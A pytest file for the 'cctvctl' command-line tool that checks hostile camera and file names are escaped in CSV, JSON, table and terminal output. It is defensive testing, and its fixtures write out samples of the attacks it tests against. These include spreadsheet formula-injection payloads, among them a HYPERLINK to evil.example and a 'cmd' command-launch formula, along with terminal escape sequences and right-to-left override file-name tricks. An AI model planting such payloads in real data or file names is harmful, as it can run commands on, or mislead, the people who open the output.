"""Hostile camera and file names never act on a terminal or a spreadsheet (issue 12 M11, L4).

CSV cells that a spreadsheet would run as a formula get a leading ``'`` (OWASP), control and
bidi characters are escaped on screen, JSON stays exact with ``\\uXXXX`` escapes. Each case runs
the installed ``cctvctl`` on a real database of each backend and reads its raw bytes.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
from datetime import datetime, timedelta

import pytest

from cctvctl.safetext import csv_cell, csv_value, json_text, shown, unsafe

#: names a spreadsheet would run (OWASP's list), that steer a terminal, or that Rich would parse
FORMULAS = ['=HYPERLINK("http://evil.example/?x","click")', "+cmd|' /C calc'!A0", "@SUM(1)",
            "-2+3", "\uff1d1+1"]
TERMINAL = ["gate\u009b31mred", "exit\u202eTXT.exe", "iso\u2066late\u2069", "zero\u200bwidth"]
OTHER = ["[/]", "[bold red]loud", "'quoted", "back\\slash", "서울 정문", "plain-gate"]
NAMES = FORMULAS + TERMINAL + OTHER
DAY = datetime(2021, 8, 15)


def raw_unsafe(text: str) -> list[str]:
    """Characters that would act on a terminal (newlines of the output itself are fine)."""
    return sorted({c for c in text if c != "\n" and unsafe(c)})


def run(url: str, *args: str, ok: bool = True) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CCTV_")}
    env["COLUMNS"] = "250"  # long temporary paths stay on one line
    proc = subprocess.run(["cctvctl", "--db", url, "--tz", "UTC", *args], capture_output=True,
                          env=env, timeout=120)
    out, err = proc.stdout.decode("utf-8"), proc.stderr.decode("utf-8")  # strict: no lone surrogates
    assert "Traceback" not in err and "unexpected" not in err, err
    if ok:
        assert proc.returncode == 0, err
    assert not raw_unsafe(out) and not raw_unsafe(err), (raw_unsafe(out + err), out[-500:], err)
    return subprocess.CompletedProcess(proc.args, proc.returncode, out, err)


def _history_file(path, names) -> None:
    """A week of hourly counts of 10 per camera, then a spike of 500 at noon of DAY."""
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["camera", "start", "people"])
        t = DAY - timedelta(days=7)
        while t < DAY + timedelta(days=1):
            for n in names:
                w.writerow([n, t.isoformat(), 500 if t == DAY.replace(hour=12) else 10])
            t += timedelta(hours=1)


# -- the module itself --------------------------------------------------------------------------
@pytest.mark.parametrize("value", NAMES + ["\t=1+1", "\r=1+1", "\n=1", "=a\\x41\\\\", "\x1b[31m", "x\udcff",
                                           "'", "-", "", "tab\there", "\U000e0041tag"])
def test_csv_cell_is_neutral_and_round_trips(value):
    cell = csv_cell(value)
    assert csv_value(cell) == value
    if value:
        assert cell[0] not in "=+-@\t\r\n\uff1d", "a spreadsheet would run this cell"
    assert not raw_unsafe(cell.replace("\n", "\x00")) or cell == value == ""
    if value[:1] in tuple("=+-@\t\r\n'\uff1d") or raw_unsafe(value):
        assert cell.startswith("'")
    else:
        assert cell == value  # ordinary names are written byte for byte


def test_numbers_stay_numbers_in_csv():
    assert csv_cell(-2) == -2 and csv_cell(-0.5) == -0.5 and csv_cell(None) is None


@pytest.mark.parametrize("value,expected", [
    ("gate\u009b31m", "gate\\x9b31m"), ("a\u202eb", "a\\u202eb"), ("\x1b[2J", "\\x1b[2J"),
    ("line\nbreak", "line\\nbreak"), ("x\udcff", "x\\udcff"), ("서울 ①", "서울 ①"),
    ("back\\slash", "back\\slash"), ("\u2028", "\\u2028"), ("zw\u200dj", "zw\u200dj")])
def test_shown_escapes_what_acts_on_a_terminal(value, expected):
    assert shown(value) == expected


def test_json_text_is_exact_and_terminal_safe():
    obj = {"c": "".join(TERMINAL) + "\x7f\U000e0041\udcff서울", "n": [1, None]}
    text = json_text(obj, indent=2)
    assert not raw_unsafe(text) and json.loads(text) == obj
    assert "서울" in text  # printable non-ASCII stays readable


# -- through the installed command, both backends ---------------------------------------------
@pytest.fixture
def hostile_db(db_url, tmp_path):
    path = tmp_path / "names.csv"
    # import refuses control and invisible characters in names now; a database written before
    # that rule still holds them, and every output must stay safe: store them as such a one
    stand_in = {f"terminal-{i}": name for i, name in enumerate(TERMINAL)}
    _history_file(path, FORMULAS + list(stand_in) + OTHER)
    run(db_url, "import", str(path), "--interval", "60", "--no-detect")
    from cctvctl.db import connect

    with connect(db_url) as db, db.atomic():
        for plain, hostile in stand_in.items():
            for table in ("counts", "import_days"):
                db.execute(f"UPDATE {table} SET camera = ? WHERE camera = ?", (hostile, plain))
    out = run(db_url, "detect", "--since", str(DAY.date()), "--until", str(DAY.date()),
              "--weeks", "1", "--format", "json").stdout
    flagged = {r["camera"] for r in json.loads(out)}
    assert flagged == set(NAMES), "every hostile camera has its flag"
    return db_url


def _csv_tables(text: str) -> dict[str, list[list[str]]]:
    """``report --format csv`` split into its ``# section`` tables."""
    tables, name = {}, None
    for block in text.split("\n\n"):
        lines = block.split("\n", 1)
        if lines[0].startswith("# "):
            name = lines[0][2:]
            tables[name] = list(csv.reader(io.StringIO(lines[1] if len(lines) > 1 else "")))
    return tables


def _assert_neutral_and_exact(cells: list[str]) -> None:
    for cell in cells:
        assert cell[:1] not in tuple("=+-@\t\r\n\uff1d"), cell
    assert {csv_value(c) for c in cells} == set(NAMES)


def test_report_and_detect_formats_are_safe_and_exact(hostile_db):
    day = ["report", "--day", str(DAY.date())]
    tables = _csv_tables(run(hostile_db, *day, "--format", "csv").stdout)
    for section in ("cameras", "summary", "outliers"):
        header, *rows = tables[section]
        _assert_neutral_and_exact([r[header.index("camera")] for r in rows])
    one = list(csv.reader(io.StringIO(run(hostile_db, *day, "--format", "csv", "--section",
                                          "cameras").stdout)))
    _assert_neutral_and_exact([r[0] for r in one[1:]])
    data = json.loads(run(hostile_db, *day, "--format", "json").stdout)
    assert {c["camera"] for c in data["cameras"]} == set(NAMES)
    assert {o["camera"] for o in data["outliers"]} == set(NAMES)
    for fmt in ("table", "markdown"):
        out = run(hostile_db, *day, "--format", fmt).stdout
        for name in NAMES:
            expected = shown(name)
            if fmt == "markdown":
                expected = expected.replace("\\", "\\\\").replace("|", "\\|")
            assert expected in out, (fmt, name)
    args = ["detect", "--since", str(DAY.date()), "--until", str(DAY.date()), "--weeks", "1",
            "--dry-run"]
    rows = list(csv.DictReader(io.StringIO(run(hostile_db, *args, "--format", "csv").stdout)))
    _assert_neutral_and_exact([r["camera"] for r in rows])
    assert all(float(r["score"]) > 0 for r in rows)  # numbers are not prefixed
    table = run(hostile_db, *args).stdout
    assert all(shown(n) in table for n in NAMES if len(n) < 12)


def test_db_status_and_messages_escape_file_names(db_url, tmp_path):
    name = tmp_path / "cam\x1b]0;owned\x07\u202e.csv"
    _history_file(name, ["gate"])
    out = run(db_url, "import", str(name), "--interval", "60", "--no-detect").stdout
    assert "cam\\x1b]0;owned\\x07\\u202e.csv: read 192" in out
    status = run(db_url, "db", "status").stdout
    assert "cam\\x1b]0;owned\\x07\\u202e.csv" in status
    as_json = json.loads(run(db_url, "db", "status", "--format", "json").stdout)
    assert as_json["last_import"]["source"] == str(name)
    missing = run(db_url, "import", str(tmp_path / "gone\u009b2J.csv"), ok=False)
    assert missing.returncode == 2 and "gone\\x9b2J.csv: no such file" in missing.stderr
    unknown = run(db_url, "report", "--day", str(DAY.date()), "--camera", "x\u202ey", ok=False)
    assert unknown.returncode == 2 and "x\\u202ey" in unknown.stderr


def test_rejected_rows_file_is_neutral_and_exact(tmp_path):
    url = f"sqlite://{tmp_path / 'cctv.db'}"
    path = tmp_path / "bad.csv"
    bad = ["=HYPERLINK(\"http://evil\")", "\t=1+1", "@SUM(1)", "+cmd|x!A0", "-2+3", "gate\u202e"]
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["camera", "start", "people"])
        w.writerow(["good", "2021-08-01T00:00:00", 1])
        for n in bad:
            w.writerow([n, "2021-08-01T00:00:00", -1])
    run(url, "import", str(path), "--on-error", "skip", "--no-detect")
    with open(f"{path}.rejected.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["line", "reason", "camera", "start", "people"]
    cells = [r[2] for r in rows[1:]]
    for cell in cells:
        assert cell[:1] not in tuple("=+-@\t\r\n") and not raw_unsafe(cell), cell
    assert [csv_value(c) for c in cells] == bad
    assert [csv_value(r[4]) for r in rows[1:]] == ["-1"] * len(bad)


def test_a_name_written_behind_our_back_is_still_escaped(tmp_path):
    """C0 controls are refused on import; a row put in by other means is still shown escaped."""
    url = f"sqlite://{tmp_path / 'cctv.db'}"
    path = tmp_path / "one.csv"
    _history_file(path, ["gate"])
    run(url, "import", str(path), "--interval", "60", "--no-detect")
    con = sqlite3.connect(tmp_path / "cctv.db")
    with con:
        con.execute("UPDATE counts SET camera = ?", ("\x1b[2J\x1b]0;x\x07gate",))
    con.close()
    out = run(url, "report", "--day", str(DAY.date())).stdout
    assert "\\x1b[2J\\x1b]0;x\\x07gate" in out
    cells = list(csv.reader(io.StringIO(run(url, "report", "--day", str(DAY.date()), "--format", "csv",
                                            "--section", "cameras").stdout)))
    assert csv_value(cells[1][0]) == "\x1b[2J\x1b]0;x\x07gate"


def test_a_database_path_with_escapes_is_shown_escaped(tmp_path):
    folder = tmp_path / "db\x1b[2J\u202e"
    folder.mkdir()
    url = f"sqlite://{folder / 'cctv.db'}"
    assert "db\\x1b[2J\\u202e" in run(url, "db", "init").stdout
    path = tmp_path / "one.csv"
    _history_file(path, ["gate"])
    assert "into sqlite:///" in run(url, "import", str(path), "--interval", "60", "--no-detect").stdout
    assert "db\\x1b[2J\\u202e" in run(url, "db", "status").stdout
